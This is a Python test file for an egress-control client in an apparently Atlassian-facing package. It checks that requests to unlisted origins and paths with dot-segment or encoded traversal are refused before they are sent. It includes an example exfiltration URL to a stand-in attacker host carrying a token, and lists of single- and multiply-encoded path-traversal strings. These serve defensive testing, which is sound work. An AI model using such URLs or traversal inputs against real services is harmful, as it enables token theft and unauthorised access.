import httpx
import pytest

from pledge.egress import EgressRefused, OutboundClient, UnsafePath, product_path
from pledge.egress.paths import unsafe_reason


def _echo(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, json={"host": request.url.host})


async def test_allowed_origin_passes_and_others_are_refused_before_sending() -> None:
    sent: list[str] = []

    def record(request: httpx.Request) -> httpx.Response:
        sent.append(str(request.url))
        return _echo(request)

    client = OutboundClient(["https://api.atlassian.com"], transport=httpx.MockTransport(record))
    assert (await client.request("GET", "https://api.atlassian.com/x")).json() == {"host": "api.atlassian.com"}
    with pytest.raises(EgressRefused, match=r"refused outbound request to https://evil\.example: not an allowed"):
        await client.request("GET", "https://evil.example/steal?token=secret")
    with pytest.raises(EgressRefused):
        await client.request("GET", "http://api.atlassian.com/x")  # same host, other scheme
    assert sent == ["https://api.atlassian.com/x"]
    assert client.refusals == 2
    await client.aclose()


async def test_the_tenant_site_is_allowed_per_call() -> None:
    client = OutboundClient([], transport=httpx.MockTransport(_echo))
    site = "https://acme.atlassian.net"
    assert (await client.request("GET", f"{site}/rest/api/3/myself", also_allow=[site])).status_code == 200
    with pytest.raises(EgressRefused):
        await client.request("GET", f"{site}/rest/api/3/myself")
    await client.aclose()


@pytest.mark.parametrize(
    "url",
    [
        "https://acme.atlassian.net/rest/api/3/issue/SIM-1/../../myself",
        "https://acme.atlassian.net/rest/api/3/issue/./x",
        "https://acme.atlassian.net/rest/api/3/issue/SIM-1\\..\\myself",
        "https://acme.atlassian.net/rest/api/3/issue/SIM-1#/../../myself",
        "https://acme.atlassian.net/rest/api/3/issue/SIM-1\n",
        "https://acme.atlassian.net/rest//api",
    ],
)
async def test_a_path_that_resolves_elsewhere_than_it_reads_is_refused_before_sending(url: str) -> None:
    """httpx resolves dot segments itself: ``…/issue/SIM-1/../../myself`` went out as ``…/myself``."""
    sent: list[str] = []
    client = OutboundClient([], transport=httpx.MockTransport(lambda r: sent.append(str(r.url)) or _echo(r)))
    with pytest.raises(UnsafePath):
        await client.request("GET", url, also_allow=["https://acme.atlassian.net"])
    assert sent == [] and client.refusals == 1
    await client.aclose()


def test_product_path_encodes_each_value_as_one_segment() -> None:
    assert product_path("/rest/api/3/issue/{key}", {"key": "A/../B?c#d"}) == "/rest/api/3/issue/A%2F..%2FB%3Fc%23d"
    assert product_path("/wiki/{space}/{id}", {"space": "%2e%2e", "id": 42}) == "/wiki/%252e%252e/42"
    assert product_path("/rest/api/3/myself?x={x}", {"x": "a&b=c"}) == "/rest/api/3/myself?x=a%26b%3Dc"
    assert product_path("/rest/api/3/issue/ABC-1?expand=names") == "/rest/api/3/issue/ABC-1?expand=names"
    for template, values in [("/a/{k}", {"k": ".."}), ("/a/../{k}", {"k": "x"}), ("/a/{k}", {}), ("/a", {"k": "x"})]:
        with pytest.raises(UnsafePath):
            product_path(template, values)


@pytest.mark.parametrize(
    "path",
    [
        "/a/%2e%2e/b",
        "/a/%252E%252E/b",
        "/a/..;/b",
        "/a/%2e;x/b",
        "/a/b%2Fc",
        "/a/b%5cc",
        "/a/%25252e%25252e/b",
        "/a/%252525252525252e/b",
    ],
)
def test_a_literal_path_with_encoded_traversal_is_refused(path: str) -> None:
    assert unsafe_reason(path) is not None
    with pytest.raises(UnsafePath) as refused:
        product_path(path)
    assert path not in str(refused.value)
